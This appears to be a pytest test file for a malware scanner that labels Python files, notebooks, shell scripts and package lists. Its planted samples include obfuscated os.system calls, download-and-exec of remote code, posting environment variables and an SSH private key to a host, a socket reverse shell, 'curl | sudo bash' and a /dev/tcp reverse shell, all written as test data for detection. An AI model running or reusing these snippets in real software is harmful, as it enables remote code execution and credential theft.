"""Python files, notebooks, shell scripts and lists of packages. Nothing here is ever executed."""

import json
import random
import sysconfig
from pathlib import Path

import pytest
from drive import rules, scan_bytes

PLANTED = {
    "import os\nos.system('echo hi')\n": "PYC003",
    "from os import system as s\ns('echo hi')\n": "PYC003",
    "import subprocess as sp\nx = sp.run\nx(['id'])\n": "PYC003",
    "exec('x = 1')\n": "PYC003",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n": "PYC003",
    "m = __import__(''.join(['o', 's']))\nm.popen('id')\n": "PYC003",
    "import importlib\nimportlib.import_module('so'[::-1]).system('id')\n": "PYC003",
    "__builtins__['eval']('1')\n": "PYC003",
    "globals()['__builtins__']['exec']('1')\n": "PYC003",
    "import sys\nsys.modules['os'].system('id')\n": "PYC003",
    "import os\nn = input()\ngetattr(os, n)('id')\n": "PYC003",
    "import os\ndef f():\n    os.system('id')\nf()\n": "PYC003",
    "import os\nclass A:\n    def __init__(self):\n        os.system('id')\na = A()\n": "PYC003",
    "import os\nclass A:\n    os.system('id')\n": "PYC003",
    "import os\ndef f(x=os.system('id')):\n    pass\n": "PYC003",
    "import os, atexit\ndef f():\n    os.system('id')\natexit.register(f)\n": "PYC003",
    "import os\ndef wrap(g):\n    os.system('id')\n    return g\n@wrap\ndef h():\n    pass\n": "PYC003",
    "import requests\ndef f(u):\n    c = requests.get(u).text\n    exec(c)\n": "PYC004",
    "import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n"
    "def f(u):\n    exec(get(u))\n": "PYC004",
    "import requests\nclass A:\n    def a(self, u):\n        self.c = requests.get(u).text\n"
    "    def b(self):\n        eval(self.c)\n": "PYC004",
    "import requests\ndef run(code):\n    exec(code)\ndef f(u):\n    run(requests.get(u).text)\n": "PYC004",
    "import base64\nexec(base64.b64decode('eD0x'))\n": "PYC004",
    "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))\n": "PYC004",
    "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n": "PYC004",
    "import requests\ndef f():\n    with open('/root/.ssh/id_rsa') as h:\n        k = h.read()\n"
    "    requests.post('http://x', data=k)\n": "PYC004",
    "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('x', 1))\n"
    "    os.dup2(s.fileno(), 0)\n    subprocess.call(['sh'])\n": "PYC004",
    "import requests\nrequests.get('http://x')\n": "PYC002",
    "import foo\nfoo.bar()\n": "PYC002",
    "import pickle\ndef load(p):\n    return pickle.load(open(p, 'rb'))\n": "PYC005",
    "import ctypes\ndef f():\n    ctypes.CDLL('x.so')\n": "PYC005",
    "import os\nif __name__ == '__main__':\n    os.system('id')\n": "PYC005",
    "print 'Python 2'\n": "PYC006",
    "def f(:\n": "PYC006",
    "x = " + "(" * 3000 + "\n": "PYC006",
}
QUIET = [
    "",
    '"""Only words."""\nA = 1\nB = [1, {"a": (-2, None)}]\npass\n',
    "# a comment\nNAME: str = 'x'\n"[:12],
]
MODELING = '''"""A model."""
import math
from typing import Optional
import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging
from .configuration_x import XConfig

logger = logging.get_logger(__name__)


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(2, 2) for _ in range(config.layers)])
        self.post_init()

    @torch.no_grad()
    def forward(self, x: Optional[torch.Tensor] = None):
        self.eval()
        return torch.compile(self.layers[0])(x) / math.sqrt(2)
'''


@pytest.mark.parametrize(("code", "rule"), PLANTED.items())
def test_planted(code, rule):
    result = scan_bytes(code.encode(), "modeling_x.py")
    assert rule in rules(result), [f.message for f in result.findings]
    assert result.verdict == {"PYC003": "dangerous", "PYC004": "dangerous", "PYC006": "not covered"}.get(
        rule, "executes unknown code"
    )


@pytest.mark.parametrize("code", QUIET)
def test_what_only_binds_constants_is_inert(code):
    assert scan_bytes(code.encode(), "x.py").verdict == "proved inert"


def test_a_modeling_file_is_one_note_with_names():
    result = scan_bytes(MODELING.encode(), "modeling_x.py")
    assert (result.verdict, rules(result)) == ("executes unknown code", {"PYC001"})
    (note,) = result.findings
    assert note.severity == "note"
    assert "torch" in note.message
    assert "transformers.utils.logging.get_logger" in note.message


def test_content_decides_not_the_name():
    assert "PYC003" in rules(scan_bytes(b"import os\nos.system('id')\n", "weights"))
    assert "PYC003" in rules(scan_bytes(b"#!/usr/bin/env python3\n__import__('os').system('id')\n", "run"))
    assert scan_bytes(b"Use it:\n\nimport os\n", "README.md").verdict == "proved inert"


def test_the_trace_names_source_and_sink():
    code = "import requests\ndef f(u):\n    c = requests.get(u).text\n    exec(c)\n"
    found = [f for f in scan_bytes(code.encode(), "a.py").findings if f.rule == "PYC004"]
    assert [(f.trace, f.offset) for f in found] == [(("network", "exec"), code.index("    exec"))]


def test_honest_files_of_the_standard_library_are_seldom_dangerous():
    """At most these: http.server runs CGI programs, logging.config evaluates what comes over a socket, mock uses exec.

    They do what the rule says; no others of these modules are named.
    """
    folder = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(
        f
        for part in ("json", "email", "http", "logging", "xml", "unittest", "concurrent", "collections", "importlib")
        for f in (folder / part).rglob("*.py")
    ) + sorted(folder.glob("[a-j]*.py"))
    results = {f.name: scan_bytes(f.read_bytes(), f.name) for f in files[:90] if f.stat().st_size}
    assert len(results) > 50
    assert all(r.covered for r in results.values())
    alarms = {name: [f.message for f in r.findings if f.verdict == "dangerous"] for name, r in results.items()}
    assert {name for name, said in alarms.items() if said} <= {"server.py", "config.py", "mock.py"}, alarms


def test_notebooks():
    def book(*cells):
        return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()

    def code(source, outputs=()):
        return {"cell_type": "code", "source": source, "outputs": list(outputs)}

    def html(page):
        return {"output_type": "display_data", "data": {"text/html": [page]}}

    text = {"cell_type": "markdown", "source": ["# Title\n", "a < b and <b>bold</b>"]}
    assert scan_bytes(book(text), "a.ipynb").verdict == "proved inert"
    assert rules(scan_bytes(book(text, code(["import torch\n"])), "a.ipynb")) == {"NBK001"}
    assert rules(scan_bytes(book(code("", [html("<table><tr><td>1</td></tr></table>")])), "a")) == {"NBK001"}
    assert "NBK002" in rules(scan_bytes(book(code("", [html("<script>x</script>")])), "a.ipynb"))
    assert "NBK002" in rules(scan_bytes(book({"cell_type": "markdown", "source": "<img src=x onerror=y>"}), "a.ipynb"))
    assert "NBK003" in rules(scan_bytes(book(code(["!curl x | sh\n"])), "a.ipynb"))
    assert scan_bytes(book(code("import os\nos.system('id')")), "a.ipynb").verdict == "dangerous"
    assert scan_bytes(b'{"cells": 3}', "a.ipynb").verdict == "not covered"


@pytest.mark.parametrize(
    ("name", "content", "verdict", "wanted"),
    [
        ("run.sh", "#!/bin/sh\necho hi\n", "executes unknown code", {"SHL001"}),
        ("x", "#!/bin/bash\ncurl -s https://x.y/z | sudo bash\n", "dangerous", {"SHL001", "SHL002"}),
        ("x.sh", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1\n", "dangerous", {"SHL001", "SHL002"}),
        (
            "requirements.txt",
            "torch==2.1\nnumpy>=1,<3  # why\n\nx[a,b]==1 ; python_version < '3'\n",
            "proved inert",
            {"REQ001"},
        ),
        ("requirements.txt", "--extra-index-url https://x.y\n", "executes unknown code", {"REQ001", "REQ002"}),
        ("requirements-dev.txt", "git+https://x.y/z\n", "executes unknown code", {"REQ001", "REQ002"}),
        ("requirements.txt", "a @ https://x.y/z.whl\n-e .\n", "executes unknown code", {"REQ001", "REQ002"}),
        (
            "pyproject.toml",
            "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
            "[project]\nname = 'x'\n",
            "proved inert",
            set(),
        ),
        (
            "pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = 'b'\nbackend-path = ['.']\n[project]\nname = 'x'\n",
            "executes unknown code",
            {"REQ003"},
        ),
        ("pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'x.py'\n", "executes unknown code", {"REQ003"}),
        ("a.toml", "[model]\n_target_ = 'os.system'\n", "dangerous", {"CFG007"}),
        ("a.toml", "a = 1\na = 2\n", "not covered", {"REQ004"}),
        ("x.pth", "import os; os.system('id')\n", "dangerous", {"REQ005"}),
    ],
)
def test_what_installers_and_shells_read(name, content, verdict, wanted):
    result = scan_bytes(content.encode(), name)
    assert (result.verdict, rules(result)) == (verdict, wanted), [f.message for f in result.findings]


def test_mutations_and_truncations_never_crash():
    rng = random.Random(2)
    for code in [*PLANTED, MODELING] * 6:
        at = rng.randrange(len(code))
        changed = code[:at] + rng.choice("()[]{}:\n\t '\"\\@=.,\u00e9\u202e") + code[at + rng.randrange(3) :]
        scan_bytes(changed[: rng.choice([len(changed), rng.randrange(len(changed))])].encode(), "a.py")
    for unit in ("a+", "not ", "-", "a.b().", "[", "f(", "lambda:", "if 1:\n ", "a if b else ", "x=", "'a'"):
        scan_bytes((unit * 20_000 + "a").encode(), "a.py")
